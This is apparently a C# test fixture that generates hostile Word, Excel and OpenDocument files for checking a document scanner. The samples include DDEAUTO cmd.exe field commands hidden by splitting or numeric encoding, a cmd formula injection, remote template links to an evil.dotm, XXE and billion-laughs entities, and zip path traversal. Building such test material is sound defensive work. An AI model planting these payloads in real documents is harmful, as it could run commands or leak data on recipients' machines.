using System.Buffers.Binary;
using System.Text;

namespace Whom.Testing;

/// <summary>Documents of Office and OpenDocument that hide from whoever looks only where one usually looks.</summary>
public static class HostileOffice
{
    private const string TypeOfMain =
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    private const string TypeOfStyles =
        "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml";

    private const string Relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private static string Deep { get; } = string.Concat(Enumerable.Repeat("<a>", 5000))
        + string.Concat(Enumerable.Repeat("</a>", 5000));

    private static string Command { get; } = "<w:ftr xmlns:w=\"urn:w\"><w:p>" + Begin
        + Instruction("DDEAUTO c:\\\\cmd.exe") + "</w:p></w:ftr>";

    private const string Begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    private const string End = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    public static IEnumerable<HostileFile> All() => [.. Pieces(), .. Fields(), .. Links(), .. Xml(), .. Archives()];

    private static IEnumerable<HostileFile> Pieces()
    {
        yield return new("elements without end in a piece of another ending", "rfp.docx",
            Typed(Override("/word/styles.bin", TypeOfStyles), Zips.Piece("word/styles.bin", Deep)), "Explodes");
        yield return new("a document of another ending", "rfp.docx", Zips.Of(
            Zips.Piece("word/document.bin", Deep), Zips.Piece("[Content_Types].xml", HostileFiles.Types.Replace(
                "/word/document.xml", "/word/document.bin", StringComparison.Ordinal))), "Explodes");
        yield return new("a command in a piece of another ending", "rfp.docx",
            Typed("<Default Extension=\"DAT\" ContentType=\"text/xml; charset=utf-8\"/>",
                Zips.Piece("word/f.dat", Command)),
            "RunsPrograms");
        yield return new("an entity in a piece without an ending", "rfp.docx",
            Typed(Override("/word/styles", TypeOfStyles), Zips.Piece("word/styles", "<!DOCTYPE a><a/>")), "Entities");
        yield return new("a command in a piece whose ending is in numbers", "rfp.docx",
            Typed("", Zips.Piece("word/footer1.xm%6C", Command)), "RunsPrograms");
        yield return new("two pieces of one name, one in numbers", "rfp.docx",
            Typed("", Zips.Piece("word/%64ocument.xml", "<a/>")), "UnsafeNames");
        yield return new("a piece in slices", "rfp.docx",
            Typed(Override("/word/styles.xml", TypeOfStyles), Zips.Piece("word/styles.xml/[0].last.piece", Deep)),
            "UnsafeNames");
        yield return new("styles that are called a picture", "rfp.docx", Typed(
            "<Default Extension=\"png\" ContentType=\"image/png\"/>", Zips.Piece("word/media/a.png", Deep),
            Zips.Piece("word/_rels/document.xml.rels", Relation("styles", "media/a.png", ""))), "TwoInOne");
        yield return new("a document and a workbook in one", "rfp.docx", Typed(Override(
            "/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
            Zips.Piece("xl/workbook.xml", "<workbook/>")), "TwoInOne");
        yield return new("a document and an OpenDocument in one", "rfp.odt", HostileFiles.Odt(
            null, Zips.Piece("[content_types].xml", HostileFiles.Types), Zips.Piece("word/document.xml", "<a/>")),
            "TwoInOne");
        yield return new("a page to be put into a document", "rfp.docx", Typed(
            "<Default Extension=\"html\" ContentType=\"text/html\"/>", Zips.Piece("word/a.html", "<html>"),
            Zips.Piece("word/_rels/document.xml.rels", Relation("aFChunk", "a.html", ""))), "Attachments");
        yield return new("a document within a document", "rfp.docx",
            HostileFiles.Docx(("word/embeddings/a.docx", HostileFiles.Docx())), "Attachments");
        yield return new("a workbook with macros", "prices.xlsx",
            HostileFiles.Xlsx(Zips.Piece("xl/vbaProject.bin", "x")), "Macros");
    }

    private static IEnumerable<HostileFile> Fields()
    {
        yield return Said("a command in a section of characters",
            $"<w:p>{Begin}<w:r><w:instrText><![CDATA[DDEAUTO c:\\\\cmd.exe]]></w:instrText></w:r>{End}</w:p>");
        yield return Said("a command behind blanks",
            $"<w:p>{Begin}{Instruction(new string(' ', 500))}{Instruction("\u00A0DDE x")}{End}</w:p>");
        yield return Said("a command over paragraphs",
            $"<w:p>{Begin}{Instruction("D")}</w:p><w:p>{Instruction("D")}</w:p><w:p>{Instruction("E x")}{End}</w:p>");
        yield return Said("a command around an empty field",
            $"<w:p>{Begin}{Instruction("DD")}{Begin}{Instruction("QUOTE")}{End}{Instruction("EAUTO x")}{End}</w:p>");
        yield return Said("a command in numbers",
            $"<w:p>{Begin}{Begin}{Instruction("QUOTE 68 68 69")}{End}x{End}</w:p>");
        yield return Said("a command in numbers, simply",
            $"<w:p>{Begin}<w:fldSimple w:instr=\" QUOTE 68 68 69 65 \"/>{Instruction("UTO x")}{End}</w:p>");
        yield return Said("a command as the result of a field",
            $"<w:p>{Begin}{Begin}{Instruction("SET a")}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDE</w:t></w:r>{End}{Instruction(" x")}{End}</w:p>");
        yield return new("a command in a formula", "prices.xlsx", HostileFiles.Xlsx(Zips.Piece(
            "xl/worksheets/sheet1.xml", "<worksheet><c><f>+cmd|'/c calc'!A0</f></c></worksheet>")), "RunsPrograms");
        yield return new("a picture by a field", "rfp.docx", HostileFiles.DocxSaying(
            $"<w:p>{Begin}{Instruction("INCLUDEPICTURE \"\\\\\\\\host\\\\a.png\"")}{End}</w:p>"), "ExternalLinks");
    }

    private static IEnumerable<HostileFile> Links()
    {
        foreach (var target in (string[])[
            @"\\host\share\evil.dotm", "//host/share/evil.dotm", "file://host/share/evil.dotm",
            @"file:///\\host\share\evil.dotm", "file://///host/share/evil.dotm", "file:%5C%5Chost%5Cevil.dotm",
            " HTTPS://host/evil.dotm"])
            yield return new("a template at " + target, "rfp.docx", HostileFiles.Docx(Zips.Piece(
                "word/_rels/settings.xml.rels", Relation("attachedTemplate", target))), "RunsPrograms");
        yield return new("a template from elsewhere in another case", "rfp.docx", HostileFiles.Docx(Zips.Piece(
            "word/_rels/settings.xml.rels",
            Relation("attachedTemplate", "https://host/evil.dotm", " TargetMode=\"external\""))), "RunsPrograms");
        yield return new("a workbook of another folder", "prices.xlsx", HostileFiles.Xlsx(Zips.Piece(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            Relation("externalLinkPath", @"file:///\\host\share\prices.xlsx"))), "ExternalLinks");
        yield return new("an OpenDocument with a picture from elsewhere", "rfp.odt",
            Odt("<i x:href=\"https://host/pixel.png\"/>"), "ExternalLinks");
        yield return new("an OpenDocument with a picture of a shared folder", "rfp.odt",
            Odt("<i x:href=\"//host/pixel.png\"/>"), "ExternalLinks");
        yield return new("an OpenDocument with a link to a macro", "rfp.odt",
            Odt("<a x:href=\" macro:///Standard.Module1.Main\"/>"), "Macros");
        yield return new("an OpenDocument with a link to a command", "rfp.odt",
            Odt("<a x:href=\"vnd.libreoffice.command:x\"/>"), "Macros");
        yield return new("an OpenDocument with a command in a formula", "rfp.odt",
            Odt("<c x:formula=\"of:=DDE(&quot;soffice&quot;)\"/>"), "RunsPrograms");
    }

    private static IEnumerable<HostileFile> Xml()
    {
        var large = new string('x', 1_200_000);
        yield return new("a long tag behind a quote in a comment", "rfp.docx",
            Part(Encoding.UTF8.GetBytes($"<a><!-- <b c=\" --><b c=\">{large}\"/></a>")), "Explodes");
        yield return new("a long tag behind a quote in a section", "rfp.docx",
            Part(Encoding.UTF8.GetBytes($"<a><![CDATA[<b c=\"]]><b c=\">{large}\"/></a>")), "Explodes");
        yield return new("a long tag in 16 bits", "rfp.docx", Part(
            Encoding.Unicode.GetBytes($"\uFEFF<a><b c=\"\u223E\u3E3E{large}\"/></a>")), "Explodes");
        yield return new("a long reference", "rfp.docx", Part(Encoding.UTF8.GetBytes($"<a>&{large};</a>")), "Explodes");
        yield return new("an entity in 16 bits", "rfp.docx", Part(
            Encoding.BigEndianUnicode.GetBytes("\uFEFF<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///x\">]><a>&e;</a>")),
            "Entities");
        yield return new("an entity behind a long comment", "rfp.docx", Part(
            Encoding.UTF8.GetBytes($"<!--{large[..9000]}--><!DOCTYPE a [<!ENTITY e \"x\">]><a>&e;</a>")), "Entities");
        yield return new("16 bits that say they are 8", "rfp.docx", Part(
            Encoding.Unicode.GetBytes("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><a/>")), "Damaged");
        yield return new("signs of 32 bits", "rfp.docx", Part(Encoding.UTF32.GetBytes("\uFEFF<a/>")), "Damaged");
        yield return new("laughs by the billion", "rfp.odt", HostileFiles.Odt(null, Zips.Piece("styles.xml",
            "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">]><l>&c;</l>")),
            "Entities");
    }

    private static IEnumerable<HostileFile> Archives()
    {
        yield return new("two archives with their own lists", "rfp.docx", Behind(HostileFiles.Docx()), "TwoInOne");
        yield return new("two pieces in one place", "rfp.docx", InOnePlace(HostileFiles.Docx()), "TwoInOne");
        yield return new("an archive within an OpenDocument", "rfp.odt",
            HostileFiles.Odt(null, ("Pictures/a.png", Zips.Of(Zips.Piece("a", "b")))), "ArchiveInside");
        yield return new("an archive of archives", "rfp.docx",
            HostileFiles.Docx(("customXml/a.zip", Zips.Of(("b.zip", Zips.Of(Zips.Piece("c", "d")))))), "ArchiveInside");
        yield return new("a piece above, in numbers", "rfp.docx",
            HostileFiles.Docx(Zips.Piece("word/%2e%2e/%2e%2e/x", "x")), "UnsafeNames");
    }

    private static HostileFile Said(string what, string body) =>
        new(what, "rfp.docx", HostileFiles.DocxSaying(body), "RunsPrograms");

    private static string Instruction(string says) => $"<w:r><w:instrText>{says}</w:instrText></w:r>";

    private static string Override(string name, string type) =>
        $"<Override PartName=\"{name}\" ContentType=\"{type}\"/>";

    private static byte[] Part(byte[] content) => HostileFiles.Docx(("word/styles.xml", content));

    private static byte[] Typed(string types, params ReadOnlySpan<(string, byte[])> more) => Zips.Of([
        .. more, Zips.Piece("word/document.xml", "<a/>"), Zips.Piece("_rels/.rels", HostileFiles.Rels),
        Zips.Piece("[Content_Types].xml", HostileFiles.Types.Replace(
            "</Types>", types + "</Types>", StringComparison.Ordinal))]);

    /// <summary>A paragraph with a field that says this.</summary>
    public static string FieldSaying(string instruction) =>
        $"<w:p>{Begin}{Instruction(System.Security.SecurityElement.Escape(instruction))}{End}</w:p>";

    /// <summary>A list with one relationship, to somewhere outside unless another mode is given.</summary>
    public static string Relation(string kind, string target, string mode = " TargetMode=\"External\"") =>
        $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"{Relations}/{kind}\" Target=\"{target}\"{mode}/></Relationships>";

    private static byte[] Odt(string content) =>
        HostileFiles.Odt($"<d xmlns:x=\"http://www.w3.org/1999/xlink\">{content}</d>");

    // What the second list says of the places in it is true.
    private static byte[] Behind(byte[] zip)
    {
        byte[] second = [.. zip];
        var by = (uint)zip.Length;
        for (var at = 0; at + 4 < second.Length; at++)
            if (second.AsSpan(at).StartsWith("PK\x01\x02"u8)) Move(second.AsSpan(at + 42), by);
            else if (second.AsSpan(at).StartsWith("PK\x05\x06"u8)) Move(second.AsSpan(at + 16), by);
        return [.. zip, .. second];
    }

    private static byte[] InOnePlace(byte[] zip)
    {
        for (var at = 0; at + 4 < zip.Length; at++)
            if (zip.AsSpan(at).StartsWith("PK\x01\x02"u8))
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at + 42), 0);
        return zip;
    }

    private static void Move(Span<byte> place, uint by) =>
        BinaryPrimitives.WriteUInt32LittleEndian(place, BinaryPrimitives.ReadUInt32LittleEndian(place) + by);
}
